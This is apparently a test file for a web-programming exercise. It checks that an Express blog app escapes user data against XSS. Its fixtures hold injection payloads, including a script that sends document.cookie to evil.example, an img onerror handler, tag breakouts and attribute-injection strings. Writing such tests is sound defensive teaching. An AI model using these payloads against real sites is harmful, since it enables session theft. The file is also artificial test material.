import { test } from 'node:test';
import assert from 'node:assert/strict';
import { importExercise, listen, request, requireExport } from './support.mjs';

const views = await importExercise('views.js');
const html = requireExport(views, 'html', 'function', 'views.js');
const escapeHtml = requireExport(views, 'escapeHtml', 'function', 'views.js');
const createApp = requireExport(await importExercise('app.js'), 'createApp', 'function', 'app.js');

// ---------------------------------------------------------------------------------------
// A small HTML reader: enough of the HTML tokenizer to see what a browser would see
// (elements, attributes, decoded text, raw text in <script>, RCDATA in <textarea>/<title>).

const VOID = new Set(['area', 'base', 'br', 'col', 'embed', 'hr', 'img', 'input', 'link', 'meta', 'source', 'track', 'wbr']);
const RAW_TEXT = new Set(['script', 'style']);
const RCDATA = new Set(['textarea', 'title']);
const CLOSES_P = new Set(['p', 'ul', 'ol', 'div', 'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'form', 'table', 'section', 'article', 'header', 'footer', 'main', 'nav', 'pre']);
const NAMED = { amp: '&', lt: '<', gt: '>', quot: '"', apos: "'", nbsp: '\u00a0' };

function decodeEntities(text) {
  return text.replace(/&(#x[0-9a-f]+|#[0-9]+|[a-z]+);/gi, (match, entity) => {
    if (entity[0] === '#') {
      const code = entity[1] === 'x' || entity[1] === 'X' ? parseInt(entity.slice(2), 16) : parseInt(entity.slice(1), 10);
      return String.fromCodePoint(code);
    }
    return NAMED[entity.toLowerCase()] ?? match;
  });
}

function parseHtml(source) {
  const root = { tag: '#root', attrs: {}, attrNames: [], children: [], parent: null };
  let current = root;
  let i = 0;
  const addText = (text) => {
    if (text) current.children.push({ text: decodeEntities(text) });
  };
  const space = (j) => j < source.length && /\s/.test(source[j]);
  while (i < source.length) {
    const lt = source.indexOf('<', i);
    if (lt === -1) {
      addText(source.slice(i));
      break;
    }
    addText(source.slice(i, lt));
    if (source.startsWith('<!--', lt)) {
      const end = source.indexOf('-->', lt + 4);
      i = end === -1 ? source.length : end + 3;
      continue;
    }
    if (source[lt + 1] === '!' || source[lt + 1] === '?') {
      const end = source.indexOf('>', lt);
      i = end === -1 ? source.length : end + 1;
      continue;
    }
    const close = /^<\/([a-zA-Z][a-zA-Z0-9-]*)\s*>/.exec(source.slice(lt, lt + 100));
    if (close) {
      const name = close[1].toLowerCase();
      let node = current;
      while (node && node.tag !== name) node = node.parent;
      if (node && node !== root) current = node.parent;
      i = lt + close[0].length;
      continue;
    }
    const open = /^<([a-zA-Z][a-zA-Z0-9-]*)/.exec(source.slice(lt, lt + 100));
    if (!open) {
      addText('<');
      i = lt + 1;
      continue;
    }
    const tag = open[1].toLowerCase();
    const attrs = {};
    const attrNames = [];
    let j = lt + open[0].length;
    while (j < source.length) {
      while (space(j)) j += 1;
      if (source[j] === '>') {
        j += 1;
        break;
      }
      if (source[j] === '/') {
        j += 1;
        continue;
      }
      const nameMatch = /^[^\s"'>/=]+/.exec(source.slice(j, j + 200));
      if (!nameMatch) {
        j += 1;
        continue;
      }
      const name = nameMatch[0].toLowerCase();
      j += nameMatch[0].length;
      while (space(j)) j += 1;
      let value = '';
      if (source[j] === '=') {
        j += 1;
        while (space(j)) j += 1;
        const quote = source[j];
        if (quote === '"' || quote === "'") {
          const end = source.indexOf(quote, j + 1);
          value = source.slice(j + 1, end === -1 ? source.length : end);
          j = end === -1 ? source.length : end + 1;
        } else {
          value = /^[^\s>]*/.exec(source.slice(j))[0];
          j += value.length;
        }
      }
      attrNames.push(name);
      if (!(name in attrs)) attrs[name] = decodeEntities(value); // the first one wins, as in browsers
    }
    if (tag === 'li' && current.tag === 'li') current = current.parent;
    if (CLOSES_P.has(tag) && current.tag === 'p') current = current.parent;
    const element = { tag, attrs, attrNames, children: [], parent: current };
    current.children.push(element);
    i = j;
    if (RAW_TEXT.has(tag) || RCDATA.has(tag)) {
      const rest = source.slice(i);
      const end = new RegExp(`</${tag}\\s*>`, 'i').exec(rest);
      let content = end ? rest.slice(0, end.index) : rest;
      if (tag === 'textarea' && content.startsWith('\n')) content = content.slice(1); // as browsers do
      element.children.push({ text: RCDATA.has(tag) ? decodeEntities(content) : content });
      i += end ? end.index + end[0].length : rest.length;
    } else if (!VOID.has(tag)) {
      current = element;
    }
  }
  return root;
}

function findAll(node, predicate, out = []) {
  for (const child of node.children ?? []) {
    if (child.tag && predicate(child)) out.push(child);
    if (child.tag) findAll(child, predicate, out);
  }
  return out;
}
const byTag = (doc, tag) => findAll(doc, (n) => n.tag === tag);
const textOf = (node) => (node.text !== undefined ? node.text : node.children.map(textOf).join(''));
const squash = (text) => text.replace(/\s+/g, ' ').trim();
const hasClass = (node, name) => (node.attrs.class ?? '').split(/\s+/).includes(name);

// ---------------------------------------------------------------------------------------

const EVIL_TITLE = `</title><script>alert("t")</script> Tom & Jerry's "best" <b>bold</b>`;
const POSTS = [
  { id: 'first-post', title: 'First post', author: 'Ada', body: 'Hello, world.', comments: [] },
  {
    id: 'evil',
    title: EVIL_TITLE,
    author: '<img src=x onerror=alert(1)>',
    body: '<script>document.location="https://evil.example/?c="+document.cookie</script>',
    comments: [
      { author: 'Mallory', text: '<script>alert("c")</script>' },
      { author: 'Bob & Alice', text: 'AT&amp;T is written AT&T' },
    ],
  },
  { id: `what's new? 50% & "more"`, title: 'Odd id', author: 'Eve', body: 'Links must survive this id.', comments: [] },
];

/** The model interface, async like a real database, recording addComment calls. */
function fakeModel(posts = POSTS) {
  const data = structuredClone(posts);
  const added = [];
  const later = () => new Promise((resolve) => setImmediate(resolve));
  return {
    added,
    model: {
      async listPosts() {
        await later();
        return data.map(({ id, title, author }) => ({ id, title, author }));
      },
      async getPost(id) {
        await later();
        const post = data.find((p) => p.id === id);
        return post ? structuredClone(post) : null;
      },
      async addComment(postId, comment) {
        await later();
        added.push([postId, structuredClone(comment)]);
        const post = data.find((p) => p.id === postId);
        if (!post) return null;
        post.comments.push({ author: comment.author, text: comment.text });
        return { author: comment.author, text: comment.text };
      },
    },
  };
}

async function start(posts) {
  const fake = fakeModel(posts);
  const app = createApp({ model: fake.model });
  assert.equal(typeof app, 'function', 'createApp({ model }) must return the Express app (the result of express()), not start it');
  const { url } = await listen(app);
  return { url, added: fake.added };
}

/** Checks status and Content-Type, parses the page, and checks nothing was injected. */
function page(res, status, hint = '') {
  assert.equal(res.status, status, `expected ${status}${hint ? ` (${hint})` : ''}\n${res.describe()}`);
  assert.equal(
    res.headers.get('content-type'),
    'text/html; charset=utf-8',
    `every page needs Content-Type: text/html; charset=utf-8 (res.type('html') then res.send(String(page)); sending the html\`\` object itself sends JSON)\n${res.describe()}`,
  );
  assert.match(res.text, /^\s*<!doctype html>/i, `a page starts with <!doctype html>\n${res.describe()}`);
  const doc = parseHtml(res.text);
  const scripts = byTag(doc, 'script');
  assert.equal(scripts.length, 0, `the page contains a <script> element a user smuggled in: escape every value you interpolate (& < > " ')\n${res.describe()}`);
  const handlers = findAll(doc, (n) => n.attrNames.some((name) => name.startsWith('on')));
  assert.deepEqual(
    handlers.map((n) => `<${n.tag} ${n.attrNames.join(' ')}>`),
    [],
    `an element got an on… event handler attribute from user data (attribute injection): quote every attribute value and escape quotes in it\n${res.describe()}`,
  );
  return doc;
}

const form = (fields) => ({ headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: new URLSearchParams(fields).toString() });
const postUrl = (id) => `/posts/${encodeURIComponent(id)}`;

test('escapeHtml escapes & < > " and \' so any text round-trips', { timeout: 2000 }, () => {
  for (const input of [`<a href="x" title='y'>Tom & Jerry</a>`, '&lt;b&gt; is already an entity', '"\'<>&', 'plain text', 42]) {
    const out = escapeHtml(input);
    assert.equal(typeof out, 'string', `escapeHtml(${JSON.stringify(input)}) must return a string`);
    assert.doesNotMatch(out, /[<>"']/, `escapeHtml(${JSON.stringify(input)}) left a raw < > " or ' in ${JSON.stringify(out)}`);
    assert.doesNotMatch(out, /&(?!(?:[a-z]+|#[0-9]+|#x[0-9a-f]+);)/i, `escapeHtml(${JSON.stringify(input)}) left a raw & in ${JSON.stringify(out)}: escape & too (and first, or the other entities get mangled)`);
    assert.equal(decodeEntities(out), String(input), `escapeHtml(${JSON.stringify(input)}) gave ${JSON.stringify(out)}, which a browser shows as ${JSON.stringify(decodeEntities(out))}`);
  }
});

test('html`` escapes values, inserts nested html`` as markup, joins arrays and skips null/undefined/false', { timeout: 2000 }, () => {
  const shown = (value) => String(value);
  const escaped = shown(html`<p>${'<b>hi</b> & bye'}</p>`);
  assert.ok(escaped.startsWith('<p>') && escaped.endsWith('</p>'), `the template's own markup stays markup: got ${JSON.stringify(escaped)}`);
  assert.equal(decodeEntities(escaped.slice(3, -4)), '<b>hi</b> & bye', `an interpolated string is text: got ${JSON.stringify(escaped)}`);
  assert.doesNotMatch(escaped.slice(3, -4), /</, `an interpolated string must be escaped: got ${JSON.stringify(escaped)}`);

  const items = ['a', 'b'].map((x) => html`<li>${x}</li>`);
  assert.equal(
    shown(html`<ul>${items}</ul>`),
    '<ul><li>a</li><li>b</li></ul>',
    'an array of html`` results is joined with nothing between (no commas) and not escaped again: html`` must return something that says "already safe", not a plain string',
  );
  assert.equal(shown(html`<div>${html`<em>${'x'}</em>`}</div>`), '<div><em>x</em></div>', 'a nested html`` result is inserted as markup, not escaped twice');
  assert.equal(shown(html`<p>${null}${undefined}${false}</p>`), '<p></p>', 'null, undefined and false insert nothing (so `${cond && html`…`}` works)');
  assert.equal(shown(html`<p>${0} ${7}</p>`), '<p>0 7</p>', 'numbers, including 0, are shown');
  const mixed = shown(html`<p>${['<i>', html`<br>`]}</p>`);
  assert.ok(
    mixed.includes('<br>') && !mixed.includes('<i>') && decodeEntities(mixed) === '<p><i><br></p>',
    `in an array, plain strings are escaped and html\`\` results are not: got ${JSON.stringify(mixed)}`,
  );
});

test('GET / lists the posts in model order with links and authors', { timeout: 3000 }, async () => {
  const { url } = await start();
  const res = await request(url, 'GET', '/');
  const doc = page(res, 200);
  assert.equal(squash(textOf(byTag(doc, 'title')[0] ?? { text: '' })), 'Posts', `<title>Posts</title>\n${res.describe()}`);
  assert.deepEqual(byTag(doc, 'h1').map((h) => squash(textOf(h))), ['Posts'], `one <h1>Posts</h1>\n${res.describe()}`);
  const items = byTag(doc, 'li');
  assert.deepEqual(
    items.map((li) => squash(textOf(li))),
    POSTS.map((p) => squash(`${p.title} by ${p.author}`)),
    `one <li> per post, in the model's order, reading "<title> by <author>" as text (escaped, so a browser shows the characters, not tags)\n${res.describe()}`,
  );
  assert.deepEqual(
    items.map((li) => byTag(li, 'a').map((a) => [a.attrs.href, squash(textOf(a))])[0]),
    POSTS.map((p) => [postUrl(p.id), squash(p.title)]),
    `each <li> holds <a href="/posts/<encodeURIComponent(id)>"><title></a>\n${res.describe()}`,
  );
});

test('GET / with no posts says "No posts yet."', { timeout: 2000 }, async () => {
  const { url } = await start([]);
  const res = await request(url, 'GET', '/');
  const doc = page(res, 200);
  assert.equal(byTag(doc, 'li').length, 0, `no posts, no <li>\n${res.describe()}`);
  assert.ok(byTag(doc, 'p').some((p) => squash(textOf(p)) === 'No posts yet.'), `an empty list shows <p>No posts yet.</p>\n${res.describe()}`);
});

test('escapes <script>, quotes and & in titles, authors, bodies and comments', { timeout: 3000 }, async () => {
  const { url } = await start();
  const res = await request(url, 'GET', '/posts/evil');
  const doc = page(res, 200, 'the post "evil" exists');
  const evil = POSTS[1];
  assert.equal(textOf(byTag(doc, 'title')[0] ?? { text: '' }), EVIL_TITLE, `<title> shows the post title as text: "</title>" inside it must be escaped too\n${res.describe()}`);
  assert.deepEqual(byTag(doc, 'h1').map((h) => textOf(h)), [EVIL_TITLE], `<h1> shows the title exactly, as text\n${res.describe()}`);
  assert.equal(byTag(doc, 'img').length, 0, `the author "<img src=x onerror=…>" must be text, not an <img>\n${res.describe()}`);
  assert.equal(findAll(doc, (n) => n.tag === 'b' && textOf(n) === 'bold').length, 0, `"<b>bold</b>" in the title must be text, not a <b> element\n${res.describe()}`);
  const text = squash(textOf(doc));
  assert.ok(text.includes(`by ${evil.author}`), `the page shows "by <author>" as text\n${res.describe()}`);
  assert.ok(byTag(doc, 'p').some((p) => textOf(p) === evil.body), `the body is shown as text in its own <p>\n${res.describe()}`);
  assert.deepEqual(
    byTag(doc, 'li').map((li) => squash(textOf(li))),
    evil.comments.map((c) => squash(`${c.author}: ${c.text}`)),
    `each comment is an <li> reading "<author>: <text>". "AT&amp;T" must show literally, so & becomes &amp; (an unescaped &amp; shows as &)\n${res.describe()}`,
  );
  assert.doesNotMatch(res.text, /<script/i, `the raw HTML must not contain "<script" anywhere: the < of user text must be written as &lt;\n${res.describe()}`);
});

test('every link and form action on the pages leads back to its post, even for odd ids', { timeout: 3000 }, async () => {
  const { url } = await start();
  const list = page(await request(url, 'GET', '/'), 200);
  for (const a of byTag(list, 'a')) {
    const res = await request(url, 'GET', a.attrs.href);
    const doc = page(res, 200, `following the link ${JSON.stringify(a.attrs.href)} from the list page`);
    assert.equal(
      squash(textOf(byTag(doc, 'h1')[0] ?? { text: '' })),
      squash(textOf(a)),
      `the link ${JSON.stringify(a.attrs.href)} must open its own post: build it with encodeURIComponent(id) (an id with ? % & " would otherwise break the URL) and escape it in the attribute\n${res.describe()}`,
    );
  }
  const odd = POSTS[2];
  const res = await request(url, 'GET', postUrl(odd.id));
  const doc = page(res, 200);
  const forms = byTag(doc, 'form');
  assert.equal(forms.length, 1, `the post page has one comment <form>\n${res.describe()}`);
  assert.equal((forms[0].attrs.method ?? '').toLowerCase(), 'post', `<form method="post">\n${res.describe()}`);
  assert.equal(forms[0].attrs.action, `${postUrl(odd.id)}/comments`, `the form's action is /posts/<encodeURIComponent(id)>/comments\n${res.describe()}`);
});

test('GET /posts/:id renders the post, its comments and an empty comment form', { timeout: 3000 }, async () => {
  const { url } = await start();
  const res = await request(url, 'GET', '/posts/first-post');
  const doc = page(res, 200);
  assert.equal(squash(textOf(byTag(doc, 'title')[0] ?? { text: '' })), 'First post', `<title> is the post title\n${res.describe()}`);
  assert.deepEqual(byTag(doc, 'h1').map((h) => squash(textOf(h))), ['First post'], `one <h1> with the post title\n${res.describe()}`);
  assert.ok(squash(textOf(doc)).includes('by Ada'), `the page shows "by <author>"\n${res.describe()}`);
  assert.ok(byTag(doc, 'p').some((p) => squash(textOf(p)) === 'Hello, world.'), `the body in a <p>\n${res.describe()}`);
  assert.equal(byTag(doc, 'li').length, 0, `a post without comments has no <li>\n${res.describe()}`);
  const inputs = findAll(doc, (n) => n.tag === 'input' && n.attrs.name === 'author');
  const textareas = findAll(doc, (n) => n.tag === 'textarea' && n.attrs.name === 'text');
  assert.equal(inputs.length, 1, `the form has <input name="author">\n${res.describe()}`);
  assert.equal(textareas.length, 1, `the form has <textarea name="text">\n${res.describe()}`);
  assert.equal(inputs[0].attrs.value ?? '', '', `the author field starts empty\n${res.describe()}`);
  assert.equal(textOf(textareas[0]), '', `the textarea starts empty\n${res.describe()}`);
  assert.equal(findAll(doc, (n) => hasClass(n, 'error')).length, 0, `no error message on a plain GET\n${res.describe()}`);
});

test('an unknown post answers a 404 page that shows the id as text', { timeout: 3000 }, async () => {
  const { url } = await start();
  const id = '<script>alert("404")</script>';
  const res = await request(url, 'GET', postUrl(id));
  const doc = page(res, 404, 'no post has this id; the 404 page repeats it, the classic reflected XSS');
  assert.deepEqual(byTag(doc, 'h1').map((h) => squash(textOf(h))), ['Post not found'], `<h1>Post not found</h1>\n${res.describe()}`);
  assert.ok(textOf(doc).includes(id), `the page names the id that was asked for, as text\n${res.describe()}`);
});

test('POST /posts/:id/comments stores a trimmed comment and redirects with 303', { timeout: 3000 }, async () => {
  const { url, added } = await start();
  const res = await request(url, 'POST', `${postUrl(POSTS[2].id)}/comments`, form({ author: '  Zoë  ', text: '  Nice & "quoted" <b>post</b>  ' }));
  assert.equal(res.status, 303, `a stored comment answers 303 See Other, so a reload does not post again\n${res.describe()}`);
  assert.equal(res.headers.get('location'), postUrl(POSTS[2].id), `Location: /posts/<encodeURIComponent(id)>\n${res.describe()}`);
  assert.deepEqual(
    added,
    [[POSTS[2].id, { author: 'Zoë', text: 'Nice & "quoted" <b>post</b>' }]],
    'the controller calls model.addComment(id, { author, text }) once, both trimmed (store the text as typed: escaping is the view\'s job, at output)',
  );

  const anonymous = await request(url, 'POST', '/posts/first-post/comments', form({ author: '   ', text: 'Who am I?' }));
  assert.equal(anonymous.status, 303, anonymous.describe());
  assert.deepEqual(added[1], ['first-post', { author: 'Anonymous', text: 'Who am I?' }], 'an empty author becomes "Anonymous"');

  const shown = await request(url, 'GET', postUrl(POSTS[2].id));
  const doc = page(shown, 200);
  assert.deepEqual(byTag(doc, 'li').map((li) => squash(textOf(li))), ['Zoë: Nice & "quoted" <b>post</b>'], `the new comment shows, escaped\n${shown.describe()}`);
});

test('an invalid comment answers 400 with the post, an error and the form filled in safely', { timeout: 3000 }, async () => {
  const { url, added } = await start();
  const cases = [
    { author: `" autofocus onfocus="alert(1)`, text: '   ', why: 'a blank comment' },
    { author: `' onmouseover='alert(2)' x='`, text: '</textarea><script>alert(3)</script>'.padEnd(501, 'x'), why: 'a comment of 501 characters' },
    { author: 'Ann', text: '', why: 'an empty comment' },
  ];
  for (const { author, text, why } of cases) {
    const res = await request(url, 'POST', '/posts/first-post/comments', form({ author, text }));
    const doc = page(res, 400, `${why} is invalid (1 to 500 characters after trimming)`);
    assert.deepEqual(byTag(doc, 'h1').map((h) => squash(textOf(h))), ['First post'], `the 400 shows the post page again\n${res.describe()}`);
    const errors = findAll(doc, (n) => hasClass(n, 'error'));
    assert.ok(errors.length === 1 && squash(textOf(errors[0])).length > 0, `one element with class="error" says what is wrong\n${res.describe()}`);
    const input = findAll(doc, (n) => n.tag === 'input' && n.attrs.name === 'author')[0];
    assert.equal(input?.attrs.value, author, `<input name="author"> keeps exactly what was sent in its value attribute, quoted and escaped so it cannot add attributes\n${res.describe()}`);
    const textarea = findAll(doc, (n) => n.tag === 'textarea' && n.attrs.name === 'text')[0];
    assert.equal(textarea && textOf(textarea), text, `<textarea name="text"> holds exactly the text that was sent (escaped: "</textarea>" must not close it)\n${res.describe()}`);
  }
  const ok = await request(url, 'POST', '/posts/first-post/comments', form({ author: 'Ann', text: 'y'.repeat(500) }));
  assert.equal(ok.status, 303, `500 characters is still valid\n${ok.describe()}`);
  assert.equal(added.length, 1, 'invalid comments must never reach model.addComment');
});

test('a comment on an unknown post answers the 404 page', { timeout: 3000 }, async () => {
  const { url } = await start();
  const res = await request(url, 'POST', '/posts/nope/comments', form({ author: 'Ann', text: 'Hello?' }));
  const doc = page(res, 404);
  assert.deepEqual(byTag(doc, 'h1').map((h) => squash(textOf(h))), ['Post not found'], `<h1>Post not found</h1>\n${res.describe()}`);
  const invalid = await request(url, 'POST', '/posts/nope/comments', form({ author: 'Ann', text: '' }));
  page(invalid, 404, 'an unknown post is 404 even when the comment is invalid: there is no page to show the form on');
});

test('each app reads the model it was given', { timeout: 3000 }, async () => {
  const one = await start([{ id: 'only-here', title: 'Only here', author: 'Kim', body: 'b', comments: [] }]);
  const two = await start();
  const res = await request(one.url, 'GET', '/');
  const doc = page(res, 200);
  assert.deepEqual(byTag(doc, 'li').map((li) => squash(textOf(li))), ['Only here by Kim'], `createApp({ model }) lists that model's posts, not another's\n${res.describe()}`);
  page(await request(two.url, 'GET', '/posts/only-here'), 404, 'the second app has its own model without "only-here"');
});
